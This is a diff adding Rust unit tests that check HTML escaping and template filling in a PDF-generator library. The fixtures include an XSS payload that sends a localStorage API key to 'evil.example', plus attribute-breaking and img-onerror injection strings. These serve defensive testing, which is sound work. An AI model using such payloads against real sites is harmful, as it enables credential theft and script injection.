@@ -0,0 +1,53 @@
+// Escaping of content rendered into the DOM
+
+use wasm_pdf_generator::html::{escape, Html};
+
+const SCRIPT: &str = "<script>fetch('https://evil.example/?k=' + localStorage.getItem('claude_api_key'))</script>";
+
+#[test]
+fn escapes_script_payloads() {
+    let escaped = escape(SCRIPT);
+
+    assert!(!escaped.contains('<'));
+    assert!(!escaped.contains('\''));
+    assert!(escaped.starts_with("&lt;script&gt;fetch(&#39;https://evil.example/"));
+    assert_eq!(escape("a < b && c > \"d\""), "a &lt; b &amp;&amp; c &gt; &quot;d&quot;");
+    // Already escaped text is shown as written
+    assert_eq!(escape("&lt;"), "&amp;lt;");
+}
+
+#[test]
+fn fills_templates_with_escaped_text() {
+    let topic = format!("Notes on {}", SCRIPT);
+    let html = Html::fill(r#"<div class="message-content">{}</div>"#, &[&topic]);
+
+    assert!(html.as_str().starts_with(r#"<div class="message-content">Notes on &lt;script&gt;"#));
+    assert!(html.as_str().ends_with("&lt;/script&gt;</div>"));
+    assert_eq!(html.as_str().matches('<').count(), 2);
+}
+
+#[test]
+fn keeps_attribute_values_inside_quotes() {
+    let url = "x\" onload=\"alert(1)";
+    let html = Html::fill(r#"<iframe src="{}"></iframe>"#, &[&url]);
+
+    assert_eq!(html.as_str(), r#"<iframe src="x&quot; onload=&quot;alert(1)"></iframe>"#);
+}
+
+#[test]
+fn nests_markup_and_keeps_line_breaks() {
+    let topic = "<img src=x onerror=alert(1)>\nsecond line";
+    let html = Html::fill("<div>{}</div>", &[&Html::lines(topic)]);
+    assert_eq!(html.as_str(), "<div>&lt;img src=x onerror=alert(1)&gt;<br>second line</div>");
+
+    let notice = Html::fill("<p>{} of {}</p>", &[&3usize, &"<b>"]);
+    let page = Html::fill("<main>{}{}</main>", &[&notice, &Html::default()]);
+    assert_eq!(page.as_str(), "<main><p>3 of &lt;b&gt;</p></main>");
+    assert_eq!(Html::from_static("<h3>History</h3>").as_str(), "<h3>History</h3>");
+}
+
+#[test]
+#[should_panic(expected = "wrong number of values")]
+fn rejects_missing_template_values() {
+    Html::fill("<span>{}</span><span>{}</span>", &[&"one"]);
+}